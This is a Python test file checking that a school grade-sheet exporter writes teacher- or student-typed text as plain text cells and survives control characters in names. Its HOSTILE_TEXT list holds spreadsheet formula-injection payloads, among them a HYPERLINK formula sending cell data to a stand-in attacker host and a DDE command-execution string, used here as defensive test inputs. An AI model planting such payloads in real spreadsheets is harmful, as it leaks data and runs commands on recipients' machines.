"""Formula injection and control characters in exported sheets (issue 15, points 8 and 10).

A remark, a name or a teacher typed as a formula reaches the grade sheet a teacher opens in Excel:
every exported text cell must be a text cell (no `<f>` in the sheet's XML). A control character
typed into a name must not make the export fail. The sheet is written by the exporter's writer
(`write_grade_sheet`, what `massar node export-grades` calls) from rows carrying the hostile text.
"""

from __future__ import annotations

import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from syncclient.massarfiles import GradeCell, GradeSheet, GradeSheetRow, write_grade_sheet

from .faultkit import REPORT

pytestmark = pytest.mark.faults

HOSTILE_TEXT = [
    pytest.param('=HYPERLINK("http://evil.example/?"&B7,"Cliquez")', id="hyperlink-formula"),
    pytest.param("=cmd|' /C calc'!A0", id="dde-formula"),
    pytest.param("=1+1", id="arithmetic"),
    pytest.param("=", id="a-lone-equals-sign"),
    pytest.param("+33 6 12", id="leading-plus"),
    pytest.param("@SUM(A1:A9)", id="leading-at"),
]


def sheet_with(text: str, *, name: str | None = None) -> GradeSheet:
    rows = [
        GradeSheetRow(0, "J130000001", name or text, "2012-05-01", {1: GradeCell(Decimal("12.5"))}, remark=text),
        GradeSheetRow(0, "J130000002", "ALAOUI Sara", "2012-06-01", {1: GradeCell(None, absent=True)}, remark="Bien"),
    ]
    return GradeSheet(
        school_name=text,
        school_code="SE01",
        academy=text,
        directorate="Fès",
        level="1APIC",
        class_code="1APIC-1",
        teacher=text,
        semester=1,
        subject_name="الرياضيات",
        massar_subject_code="0019",
        year="2024/2025",
        rows=rows,
    )


def formulas_in(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        return [n for n in zf.namelist() if n.startswith("xl/worksheets/") and b"<f>" in zf.read(n)]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_text_typed_as_a_formula_is_exported_as_text(tmp_path: Path, text: str) -> None:
    out = tmp_path / "sheet.xlsx"
    write_grade_sheet(out, sheet_with(text))
    assert formulas_in(out) == [], "a cell was written as a formula"
    ws = openpyxl.load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == text]
    assert len(cells) >= 4, "name, remark, teacher and school name should all be there, verbatim"
    assert {c.data_type for c in cells} == {"s"}
    REPORT.hostile("hostile_export")


def test_a_control_character_in_a_name_does_not_break_the_export(tmp_path: Path) -> None:
    out = tmp_path / "sheet.xlsx"
    write_grade_sheet(out, sheet_with("Bien", name="SA\x07RA\x1b سا\x00رة"))
    names = [c.value for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
    assert "SARA سارة" in names, names
    REPORT.hostile("hostile_export")
